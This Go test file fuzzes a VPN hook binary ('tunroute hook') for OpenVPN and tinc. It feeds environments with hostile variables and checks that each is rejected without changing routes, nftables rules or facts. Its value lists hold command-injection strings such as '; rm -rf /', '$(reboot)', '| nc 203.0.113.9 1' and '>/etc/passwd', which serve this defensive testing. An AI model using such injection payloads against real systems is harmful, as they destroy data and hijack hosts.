package vpntest

import (
	"fmt"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"
)

// hookFuzzRuns is how many random environments each daemon's hook gets.
const hookFuzzRuns = 150

// hookFuzz runs the real `tunroute hook` binary, as the daemon would (same
// run directory, config, namespace), with environments in which exactly
// one variable is hostile or missing, plus harmless noise. Each run must
// fail with a message naming that variable, or succeed without a change
// for a script type tunroute ignores; and none may change anything: the
// namespace's links, addresses, routes and rules, its nftables ruleset,
// and the facts directory are compared after every run.
//
// TUNROUTE_HOOK_FUZZ_SEED picks another seed (the default is fixed, so a
// failure in CI can be reproduced); the seed is logged.
func (w *world) hookFuzz(t *testing.T) {
	w.ensureUp(t)
	seed := uint64(4)
	if s := os.Getenv("TUNROUTE_HOOK_FUZZ_SEED"); s != "" {
		var err error
		if seed, err = strconv.ParseUint(s, 0, 64); err != nil {
			t.Fatalf("TUNROUTE_HOOK_FUZZ_SEED=%q: %v", s, err)
		}
	}
	t.Logf("seed %d (TUNROUTE_HOOK_FUZZ_SEED=%d reproduces this run)", seed, seed)
	rng := rand.New(rand.NewPCG(seed, seed^0x7475_6e72_6f75_7465))
	gen := openvpnCase
	if w.k.name == "tinc" {
		gen = tincCase
	}
	w.settle()
	before := w.fuzzSnapshot(t)
	t0 := time.Now()
	var cases []hookCase
	cases = append(cases, fixedCases(w.k.name)...)
	runs := hookFuzzRuns
	if w.fuzzRuns > 0 {
		runs = w.fuzzRuns
	}
	for i := 0; i < runs; i++ {
		cases = append(cases, gen(rng))
	}
	failed := 0
	for i, c := range cases {
		mark := w.vpn.mark()
		out, code := w.hook(t, c.env, c.args...)
		bad := ""
		switch {
		case c.ignored && code != 0:
			bad = fmt.Sprintf("exit %d, want 0 for an ignored script", code)
		case !c.ignored && code == 0:
			bad = "exit 0, want an error"
		case !c.ignored && !namesVar(out, c.bad):
			bad = fmt.Sprintf("the message does not name the variable %s", c.bad)
		}
		w.settle()
		if after := w.fuzzSnapshot(t); after != before {
			if w.k.name == "tinc" && w.daemonRanScript(mark) {
				// tincd itself ran a script meanwhile (it lost and found
				// its server under load): its hook changed the facts.
				t.Logf("case %d: tincd ran a script meanwhile (%s); the change is its hook's:\n%s", i,
					strings.TrimSpace(lastLine(w.vpn.(*tinc).EventFile())), lineDiff(before, after))
			} else {
				bad += "; it CHANGED the namespace or the facts:\n" + lineDiff(before, after)
			}
			before = after
		}
		if bad != "" {
			failed++
			if failed <= 15 {
				t.Errorf("case %d (%s): %s\n  args %q\n  env %q\n  output: %s", i, c.what, bad, c.args, c.env, strings.TrimSpace(out))
			}
		}
	}
	if failed > 15 {
		t.Errorf("... %d failing cases in all", failed)
	}
	t.Logf("%d hook runs in %v, %d failed", len(cases), time.Since(t0).Round(time.Millisecond), failed)
}

// hookCase is one run of the hook.
type hookCase struct {
	what    string
	args    []string // after "hook", before "-c CFG"
	env     []string
	bad     string // the variable the message must name
	ignored bool   // a script type tunroute ignores: exit 0, no change
}

func namesVar(out, v string) bool {
	return strings.Contains(out, "variable "+v+"=") || strings.Contains(out, "variable "+v+":") ||
		(v == "verb" && strings.Contains(out, "verb"))
}

// hostile values, by what the variable should hold.
var (
	hostileShell = []string{"; rm -rf /", "$(reboot)", "`id`", "| nc 203.0.113.9 1", "&& true", "x\ny", "'", "\"", "\\", "*", "${IFS}", ">/etc/passwd"}
	hostileDev   = []string{"eth0; reboot", "tun0 x", "a/b", "a:b", "..", ".", "é0", "tun%d", strings.Repeat("x", 16), strings.Repeat("A", 4096), "tun0\x7f", "\ttun0", "ovpn0\n"}
	hostileAddr4 = []string{"999.1.1.1", "10.8.0", "10.8.0.2/24", "010.008.000.002", "0x0a.0.0.2", " 10.8.0.2", "10.8.0.2 ", "0.0.0.0", "224.0.0.1", "255.255.255.255x", "10.8.0.2%eth0", "2001:db8::1", strings.Repeat("1", 300)}
	hostileAddr6 = []string{"2001:db8::g", "2001:db8:::1", "::", "ff02::1", "fe80::1%eth0", "10.8.0.2", "2001:db8::1/64", "[2001:db8::1]", strings.Repeat("f", 300)}
	hostilePort  = []string{"0", "65536", "-1", "1194 ", "abc", "99999999999999999999999", "1e3", "0x4aa"}
	hostileMask  = []string{"255.0.255.0", "255.255.255.256", "24", "/24", "ffff:ffff::", "0.255.255.255"}
	hostileBits  = []string{"-1", "129", " 64", "64 ", "abc", "1e2", "99999999999999999999"}
	hostileProto = []string{"icmp", "udp; reboot", "tcp$(id)", "udpx", "UDP", "sctp"}
	hostileNode  = []string{"a;b", "$(id)", "../x", "node name", "nodé", "a-b", "a.b"}
	hostileNet   = []string{"10.0.0.0/33", "abc", "10.99.0.1/16#$(id)", "10.99.0.0/16#", "10.99.0.0/16#-1", "2001:db8::/129", "10.99.0.0/16 #1"}
)

func pick[T any](rng *rand.Rand, xs []T) T { return xs[rng.IntN(len(xs))] }

func hostile(rng *rand.Rand, typed []string) string {
	if rng.IntN(4) == 0 {
		// A valid-looking value with shell syntax around it.
		return pick(rng, typed) + pick(rng, hostileShell)
	}
	if rng.IntN(5) == 0 {
		return pick(rng, hostileShell)
	}
	return pick(rng, typed)
}

// noise adds variables tunroute does not read, with hostile values: they
// must not matter.
func noise(rng *rand.Rand, env map[string]string) {
	for i := rng.IntN(4); i > 0; i-- {
		env[pick(rng, []string{"X509_0_CN", "common_name", "config", "tls_digest_0", "FOO", "LD_PRELOAD_", "NETNAME", "WEIGHT", "daemon_pid"})] = pick(rng, hostileShell)
	}
}

func envList(env map[string]string) []string {
	out := []string{"PATH=/usr/sbin:/usr/bin:/sbin:/bin"}
	keys := make([]string, 0, len(env))
	for k := range env {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		out = append(out, k+"="+env[k])
	}
	return out
}

// openvpnEnv is what OpenVPN gives its scripts in the lab (lab-notes
// item 2), for one script type.
func openvpnEnv(scriptType string) map[string]string {
	return map[string]string{
		"script_type": scriptType, "dev": "ovpn0", "dev_type": "tun", "tun_mtu": "1500", "script_context": "init",
		"ifconfig_local": "10.8.0.2", "ifconfig_netmask": "255.255.255.0",
		"ifconfig_ipv6_local": "2001:db8:8::1000", "ifconfig_ipv6_netbits": "64", "ifconfig_ipv6_remote": "2001:db8:8::1",
		"route_vpn_gateway": "10.8.0.1", "route_net_gateway": "10.1.0.1",
		"route_network_1": "10.99.0.0", "route_netmask_1": "255.255.0.0", "route_gateway_1": "10.8.0.1",
		"trusted_ip": "198.51.100.2", "trusted_port": "1194", "untrusted_ip": "198.51.100.2", "untrusted_port": "1194",
		"remote_1": "198.51.100.2", "remote_port_1": "1194", "proto_1": "udp",
		"foreign_option_1": "dhcp-option DNS 10.8.0.1", "common_name": "server", "TUNROUTE_VPN": "work",
	}
}

var openvpnScripts = []string{"up", "route-up", "route-pre-down", "down"}
var openvpnIgnored = []string{"ipchange", "tls-verify", "client-connect", "client-disconnect", "learn-address", "auth-user-pass-verify"}

// openvpnVars are the variables the OpenVPN hook validates, with what
// they must hold.
var openvpnVars = []struct {
	name    string
	hostile []string
}{
	{"dev", hostileDev},
	{"ifconfig_local", hostileAddr4}, {"ifconfig_netmask", hostileMask}, {"ifconfig_remote", hostileAddr4},
	{"ifconfig_ipv6_local", hostileAddr6}, {"ifconfig_ipv6_netbits", hostileBits}, {"ifconfig_ipv6_remote", hostileAddr6},
	{"route_vpn_gateway", hostileAddr4}, {"route_net_gateway", hostileAddr4},
	{"trusted_ip", hostileAddr4}, {"trusted_ip6", hostileAddr6}, {"trusted_port", hostilePort}, {"proto_1", hostileProto},
	{"route_network_1", append([]string{"10.99.0.1"}, hostileAddr4...)}, {"route_netmask_1", hostileMask},
	{"route_ipv6_network_1", []string{"2001:db8::/129", "10.0.0.0/8", "2001:db8::1/48", "2001:db8::", "x"}},
	{"foreign_option_1", []string{"dhcp-option DNS 10.8.0.1;reboot", "dhcp-option DNS $(id)", "dhcp-option DNS6 10.8.0.1",
		"dhcp-option DNS 2001:db8::53", "dhcp-option DNS 10.8.0.1 ; rm -rf /", "dhcp-option DNS", "dhcp-option DNS 10.8.0.1 10.8.0.2"}},
	{"TUNROUTE_VPN", []string{"nosuch", "work; reboot", "../work", "work\n", strings.Repeat("w", 300)}},
}

func openvpnCase(rng *rand.Rand) hookCase {
	st := pick(rng, openvpnScripts)
	env := openvpnEnv(st)
	noise(rng, env)
	args := []string{"openvpn"}
	if st == "up" || st == "route-pre-down" || st == "down" {
		args = append(args, "ovpn0", "1500", "0", "10.8.0.2", "255.255.255.0", "init")
	}
	switch r := rng.IntN(10); {
	case r == 0: // an ignored script: anything goes, nothing happens
		env["script_type"] = pick(rng, openvpnIgnored)
		v := pick(rng, openvpnVars)
		env[v.name] = hostile(rng, v.hostile)
		return hookCase{what: "ignored " + env["script_type"], args: args, env: envList(env), ignored: true}
	case r == 1: // a hostile script type
		env["script_type"] = hostile(rng, []string{"UP", "up ", "route_up", "", "upx", "ipchange2"})
		if env["script_type"] == "" {
			delete(env, "script_type")
			args = []string{"openvpn", pick(rng, hostileShell)}
		}
		return hookCase{what: "script_type", args: args, env: envList(env), bad: "script_type"}
	case r == 2: // a required variable missing
		delete(env, "dev")
		return hookCase{what: st + " without dev", args: args, env: envList(env), bad: "dev"}
	}
	v := pick(rng, openvpnVars)
	env[v.name] = hostile(rng, v.hostile)
	if v.name == "foreign_option_1" {
		// Only DNS options are read; other pushed options, whatever
		// they hold, are not tunroute's business.
		env[v.name] = pick(rng, v.hostile)
	}
	if v.name == "route_netmask_1" {
		env["route_network_1"] = "10.99.0.0"
	}
	return hookCase{what: st + " " + v.name, args: args, env: envList(env), bad: v.name}
}

// tincEnv is what tincd gives a script (lab-notes item 3).
func tincEnv(verb string) map[string]string {
	// The config has one tinc vpn: no TUNROUTE_VPN needed.
	env := map[string]string{"NETNAME": "trlab", "NAME": "client", "DEVICE": "/dev/net/tun", "INTERFACE": "tinc0"}
	switch verb {
	case "host-up", "host-down":
		env["NODE"], env["REMOTEADDRESS"], env["REMOTEPORT"] = "vpnserver", "198.51.100.2", "655"
	case "subnet-up", "subnet-down":
		env["NODE"], env["SUBNET"], env["WEIGHT"] = "vpnserver", "10.20.0.1/32", "10"
		env["REMOTEADDRESS"], env["REMOTEPORT"] = "198.51.100.2", "655"
	}
	return env
}

var tincVerbs = []string{"tinc-up", "tinc-down", "host-up", "host-down", "subnet-up", "subnet-down"}

func tincCase(rng *rand.Rand) hookCase {
	verb := pick(rng, tincVerbs)
	env := tincEnv(verb)
	noise(rng, env)
	var bad string
	switch r := rng.IntN(8); {
	case r == 0:
		verb, bad = hostile(rng, []string{"TINC-UP", "host_up", "up", "tinc-up ", "host-up2"}), "verb"
	case r == 1:
		delete(env, "INTERFACE")
		bad = "INTERFACE"
	case r <= 3:
		env["INTERFACE"], bad = hostile(rng, hostileDev), "INTERFACE"
	case r == 4:
		env["TUNROUTE_VPN"], bad = hostile(rng, []string{"nosuch", "work; reboot", "../work"}), "TUNROUTE_VPN"
	default:
		switch verb {
		case "host-up", "host-down":
			switch rng.IntN(4) {
			case 0:
				env["NODE"], bad = hostile(rng, hostileNode), "NODE"
			case 1:
				env["REMOTEADDRESS"], bad = hostile(rng, append(hostileAddr4[:len(hostileAddr4)-2:len(hostileAddr4)-2], hostileAddr6[:5]...)), "REMOTEADDRESS"
			case 2:
				env["REMOTEPORT"], bad = hostile(rng, hostilePort), "REMOTEPORT"
			default:
				bad = pick(rng, []string{"NODE", "REMOTEADDRESS"})
				delete(env, bad)
			}
		case "subnet-up", "subnet-down":
			env["SUBNET"], bad = hostile(rng, hostileNet), "SUBNET"
		default:
			env["INTERFACE"], bad = hostile(rng, hostileDev), "INTERFACE"
		}
	}
	return hookCase{what: verb + " " + bad, args: []string{"tinc", verb}, env: envList(env), bad: bad}
}

// fixedCases are hostile environments every run tries.
func fixedCases(kind string) []hookCase {
	if kind == "tinc" {
		return []hookCase{
			{what: "no verb", args: []string{"tinc"}, env: envList(tincEnv("tinc-up")), bad: "verb"},
			{what: "empty environment", args: []string{"tinc", "host-up"}, env: []string{}, bad: "INTERFACE"},
			{what: "tinc-down on a hostile device", args: []string{"tinc", "tinc-down"},
				env: envList(map[string]string{"INTERFACE": "tinc0; reboot"}), bad: "INTERFACE"},
		}
	}
	down := openvpnEnv("down")
	down["dev"] = "ovpn0$(reboot)"
	return []hookCase{
		{what: "empty environment", args: []string{"openvpn"}, env: []string{}, bad: "script_type"},
		{what: "down on a hostile device", args: []string{"openvpn"}, env: envList(down), bad: "dev"},
		{what: "ipchange with nothing else", args: []string{"openvpn", "[AF_INET]198.51.100.2", "1194"},
			env: envList(map[string]string{"script_type": "ipchange"}), ignored: true},
	}
}

// fuzzSnapshot is the client namespace's routing state and ruleset (as
// ip and nft print them, counters left out) and the facts directory.
func (w *world) fuzzSnapshot(t *testing.T) string {
	t.Helper()
	var b strings.Builder
	// Two ip runs (batch mode takes no family option per line).
	for _, fam := range []string{"-4", "-6"} {
		out, err := ipBatch(w.client, fam, "link show\naddress show\nroute show table all\nrule show\n")
		if err != nil {
			t.Fatalf("ip -batch: %v\n%s", err, out)
		}
		b.WriteString(out + "\n")
	}
	rs, err := nft(w.client, "", "-j", "list", "ruleset")
	if err != nil {
		t.Fatalf("nft list ruleset: %v\n%s", err, rs)
	}
	b.WriteString(counterRE.ReplaceAllString(rs, `"counter":{}`) + "\n")
	filepath.WalkDir(filepath.Join(w.runDir, "facts"), func(p string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			data, _ := os.ReadFile(p)
			fmt.Fprintf(&b, "%s:\n%s\n", p, data)
		}
		return nil
	})
	return b.String()
}

func ipBatch(nsName, fam, cmds string) (string, error) {
	cmd := exec.Command("ip", "-n", nsName, "-j", fam, "-batch", "-")
	cmd.Stdin = strings.NewReader(cmds)
	out, err := cmd.CombinedOutput()
	return string(out), err
}

var counterRE = regexp.MustCompile(`"counter":\s*\{"packets":\s*\d+,\s*"bytes":\s*\d+\}`)

// lineDiff shows the lines only in a and only in b (JSON arrays are
// split at object boundaries so that a change stands out).
func lineDiff(a, b string) string {
	split := func(s string) []string { return strings.Split(strings.ReplaceAll(s, "},{", "},\n{"), "\n") }
	inA, inB := map[string]bool{}, map[string]bool{}
	for _, l := range split(a) {
		inA[l] = true
	}
	for _, l := range split(b) {
		inB[l] = true
	}
	var out []string
	for _, l := range split(a) {
		if !inB[l] {
			out = append(out, "  - "+l)
		}
	}
	for _, l := range split(b) {
		if !inA[l] {
			out = append(out, "  + "+l)
		}
	}
	return strings.Join(out, "\n")
}

// lastLine is the last line of a file, "" if it cannot be read.
func lastLine(p string) string {
	b, _ := os.ReadFile(p)
	lines := strings.Split(strings.TrimSpace(string(b)), "\n")
	return lines[len(lines)-1]
}

// daemonRanScript reports whether the daemon ran a script since mark; its
// script records the event only after its hook returned, so this waits
// a little for it.
func (w *world) daemonRanScript(mark int64) bool {
	for deadline := time.Now().Add(2 * time.Second); ; time.Sleep(20 * time.Millisecond) {
		if w.vpn.mark() != mark {
			return true
		}
		if time.Now().After(deadline) {
			return false
		}
	}
}
